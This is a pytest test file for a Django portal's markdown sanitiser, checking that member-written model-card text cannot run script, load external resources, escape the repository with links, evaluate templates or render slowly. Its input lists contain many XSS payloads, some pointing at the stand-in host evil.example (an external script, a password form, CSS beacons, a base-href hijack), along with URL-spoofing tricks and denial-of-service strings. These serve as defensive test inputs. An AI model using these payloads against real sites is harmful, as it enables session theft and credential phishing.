"""What members write can do nothing on a page and takes no time (security.md 3: 26, 28, 30)."""

import re
import time
from dataclasses import replace

import pytest
from django.conf import settings
from django.template import engines

from portal.markup import Base, render

BASE = Base("/maker/minilm/blob/main/", "/maker/minilm/resolve/main/")

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td>x</table>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "<a hx-get=/settings hx-trigger=load>x</a>",
    "<div data-poll=/settings popover id=live>x</div>",
]
ALLOWED = {
    "*": {"id", "align", "lang"},
    "a": {"href", "rel", "title"},
    "img": {"src", "alt", "title", "width", "height"},
    "code": {"class"},
    "details": {"open"},
    "pre": {"tabindex"},
    "table": {"tabindex"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan", "scope"},
    "ol": {"start"},
}


@pytest.mark.parametrize("text", SCRIPTS)
def test_a_card_cannot_run_anything(text: str) -> None:
    html = str(render(text, base=BASE))
    for tag, attributes in re.findall(r"<([a-z0-9]+)((?:\s+[\w:-]+(?:=\"[^\"]*\")?)*)\s*/?>", html):
        assert tag not in {"script", "style", "svg", "math", "iframe", "form", "input", "object"}
        for name in re.findall(r"([\w:-]+)=\"", attributes):
            assert name in ALLOWED["*"] | ALLOWED.get(tag, set()), html
    assert not re.search(r"(href|src)=\"\s*(javascript|vbscript|data):", html, re.IGNORECASE)
    assert not re.search(r"<(script|style|svg|iframe|form|base|meta|link|embed|object)", html, re.I)
    # every "<" that is left opens a tag of the allow-list: nothing was half-cleaned
    assert len(re.findall(r"<", html)) == len(re.findall(r"</?[a-z][a-z0-9]*[\s>/]", html))


def test_images_come_from_our_two_origins_only() -> None:
    ours = f"{settings.CONTENT_URL}/x.png"
    html = str(render(f"![a](figure.png) ![b]({ours}) ![c](https://evil.example/c.png)", base=BASE))
    assert re.findall(r'src="([^"]*)"', html) == ["/maker/minilm/resolve/main/figure.png", ours]
    assert '<a href="https://evil.example/c.png"' in html and ">c</a>" in html


@pytest.mark.parametrize(
    "source",
    [
        "//evil.example/x",
        "/\\evil.example/x",
        "https:evil.example",
        "http://localhost@evil.example/",
        "\\\\evil.example/x",
        "HTTPS://EVIL.example/x",
    ],
)
def test_an_image_cannot_pretend_to_be_ours(source: str) -> None:
    for text in (f"![x](<{source}>)", f'<img alt=x src="{source}">'):
        for kept in re.findall(r'src="([^"]*)"', str(render(text, base=BASE))):
            assert re.match(r"/(?![/\\])", kept), kept  # a path of ours, never another host


def test_an_image_without_a_source_leaves_its_words() -> None:
    assert str(render('<img src="//evil.example/x" alt="a <b> c">')).strip() == "a &lt;b&gt; c"
    assert 'alt=""' in str(render('<img src="/x.png">'))


def test_relative_links_stay_inside_the_repo() -> None:
    html = str(render("[a](docs/a.md) [b](../../../settings/tokens) [c](#Use-it)", base=BASE))
    assert re.findall(r'href="([^"]*)"', html) == [
        "/maker/minilm/blob/main/docs/a.md",
        "/maker/minilm/blob/main/",
        "#h-use-it",
    ]


def test_relative_links_start_in_the_folder_of_their_text() -> None:
    html = str(render("[a](b.md) [c](../c.md) ![d](d.png)", base=replace(BASE, folder="docs/")))
    assert re.findall(r'(?:href|src)="([^"]*)"', html) == [
        "/maker/minilm/blob/main/docs/b.md",
        "/maker/minilm/blob/main/c.md",
        "/maker/minilm/resolve/main/docs/d.png",
    ]


def test_headings_move_down_and_get_anchors_of_their_own() -> None:
    html = str(render("# Main\n\n## 用法\n\n# Main\n\n<h1 id=live>raw</h1>\n"))
    assert '<h2 id="h-main">' in html and '<h3 id="h-用法">' in html
    assert '<h2 id="h-main-2">' in html and '<h2 id="h-live">' in html
    assert "<h1" not in html


def test_no_level_of_headings_is_skipped() -> None:
    html = str(render("## First\n\n#### Deep\n\n### Less\n\n<h5>Raw</h5>\n\n# Top\n"))
    assert re.findall(r"<h(\d)", html) == ["2", "3", "3", "4", "2"]
    assert re.findall(r"</h(\d)", html) == ["2", "3", "3", "4", "2"]


def test_tables_align_without_inline_style() -> None:
    html = str(render("| a | b |\n|:-:|--:|\n| 1 | 2 |"))
    assert '<td align="center">' in html and "style" not in html


def test_nothing_is_evaluated_as_a_template() -> None:
    html = render("`{{7*191}}` {% load x %} `${7*191}`")
    assert "1337" not in engines["django"].from_string("{{ html }}").render({"html": html})
    assert "{{7*191}}" in html


SLOW = {
    "brackets": "[" * 60_000,
    "quotes": ">" * 60_000,
    "stars": "*a " * 60_000,
    "emphasis": "**a_ " * 40_000,
    "ticks": "".join("`" * i for i in range(600)),
    "comments": "<!--" * 50_000,
    "lists": "- " * 50_000,
    "links": "[a](<" * 50_000,
    "entities": "&" * 100_000,
    "table": "|a" * 3000 + "\n" + "|-" * 3000 + "\n" + "|x\n" * 30,
    "references": "\n".join(f"[{i}]: x" for i in range(10_000)),
    "images": "![" * 50_000,
    "nested lists": "".join("  " * i + "- a\n" for i in range(400)),
    "open tags": "<a " * 80_000,
    "less than": "<" * 100_000,
    "tildes": "~~a" * 60_000,
    "strikes": "[a](" * 60_000,
    "nested html": "<div>" * 60_000,
    "lines": "[\n" * 100_000,
    "html blocks": "<div>\n\n" * 7_000,
    "long": "word " * 100_000,
}


@pytest.mark.parametrize("name", SLOW)
def test_no_text_takes_long(name: str) -> None:
    started = time.process_time()
    render(SLOW[name])
    assert time.process_time() - started < 5


def test_the_same_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    from portal.markup import parsing

    text = "# Rendered once, then kept by its hash"
    first = render(text)
    monkeypatch.setattr(parsing, "to_html", lambda *_: pytest.fail("parsed again"))
    assert render(text) == first
